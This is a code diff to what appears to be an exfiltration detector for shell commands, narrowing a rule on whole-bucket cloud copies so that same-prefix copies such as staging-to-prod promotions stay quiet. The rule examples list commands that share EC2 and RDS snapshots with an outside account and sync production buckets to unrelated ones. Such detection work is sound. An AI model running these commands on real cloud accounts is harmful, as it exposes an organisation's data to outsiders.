@@ -551,14 +551,16 @@ function sourceSentByRequest(i: AnalysisInput): string | undefined {
 }
 const ENCODERS = new Set(['xxd', 'base64', 'base32', 'basenc', 'od', 'hexdump', 'openssl', 'gzip', 'tr']);
 
-/** A whole bucket or prefix copied into another bucket in one command (`aws s3 sync s3://a s3://b`, `gsutil -m cp -r gs://a gs://b`). */
+/** A whole bucket or prefix copied into another owner's bucket in one command (`aws s3 sync s3://a s3://b`, `gsutil -m cp -r gs://a gs://b`). */
 function copiesBetweenBuckets(c: SimpleCommand): boolean {
   const a = c.argv;
   const scheme = c.name === 'aws' && a.includes('s3') ? 's3://' : (c.name === 'gsutil' || (c.name === 'gcloud' && a.includes('storage'))) ? 'gs://' : undefined;
   if (!scheme) return false;
   const whole = a.includes('sync') || a.includes('rsync') || (a.includes('cp') && (hasShortFlag(c, 'r') || hasShortFlag(c, 'R') || a.includes('--recursive')));
   const buckets = new Set(a.filter((w) => w.startsWith(scheme)).map((w) => w.slice(scheme.length).split('/')[0]));
-  return whole && buckets.size > 1;
+  // a team's buckets share its name's first word (`acme-staging-assets` → `acme-prod-assets` is a promotion)
+  const owners = new Set([...buckets].map((b) => b!.split(/[-_.]/, 1)[0]));
+  return whole && buckets.size > 1 && owners.size > 1;
 }
 
 export const RULES: readonly Rule[] = [
@@ -737,7 +739,7 @@ export const RULES: readonly Rule[] = [
       const share = (c.name === 'aws' && a.some((w) => /^modify-(snapshot|image|db-snapshot|db-cluster-snapshot)-attribute$/.test(w)) && a.some((w) => w === '--user-ids' || w === '--values-to-add' || /createVolumePermission|launchPermission|Add=/.test(w))) || copiesBetweenBuckets(c);
       return share ? a.join(' ') : undefined;
     },
-    examples: { fire: ['aws ec2 modify-snapshot-attribute --snapshot-id snap-0abc --attribute createVolumePermission --operation-type add --user-ids 999988887777', 'aws rds modify-db-snapshot-attribute --db-snapshot-identifier prod --attribute-name restore --values-to-add 999988887777', 'aws s3 sync s3://acme-prod-data s3://other-bucket-zz91', 'gsutil -m cp -r gs://acme-prod-bq-exports gs://drop-bucket-7731-archive/', 'gcloud storage rsync -r gs://acme-prod gs://copy-9921'], quiet: ['aws ec2 describe-snapshots --owner-ids self', 'gsutil -m cp -r gs://acme-builds/v1.2 ./dist', 'gsutil cp gs://acme-builds/app.tgz gs://acme-builds/latest/app.tgz', 'aws s3 sync s3://acme-prod-data/reports ./reports', 'aws s3 sync dist/ s3://acme-site'] },
+    examples: { fire: ['aws ec2 modify-snapshot-attribute --snapshot-id snap-0abc --attribute createVolumePermission --operation-type add --user-ids 999988887777', 'aws rds modify-db-snapshot-attribute --db-snapshot-identifier prod --attribute-name restore --values-to-add 999988887777', 'aws s3 sync s3://acme-prod-data s3://other-bucket-zz91', 'gsutil -m cp -r gs://acme-prod-bq-exports gs://drop-bucket-7731-archive/', 'gcloud storage rsync -r gs://acme-prod gs://copy-9921'], quiet: ['aws s3 sync s3://acme-staging-assets/v2/ s3://acme-prod-assets/v2/', 'aws ec2 describe-snapshots --owner-ids self', 'gsutil -m cp -r gs://acme-builds/v1.2 ./dist', 'gsutil cp gs://acme-builds/app.tgz gs://acme-builds/latest/app.tgz', 'aws s3 sync s3://acme-prod-data/reports ./reports', 'aws s3 sync dist/ s3://acme-site'] },
   },
   {
     id: 'PX-EXFIL-013', name: 'pushes-repository-to-new-remote', score: 60, tactic: 'exfiltration', technique: 'T1567.001',
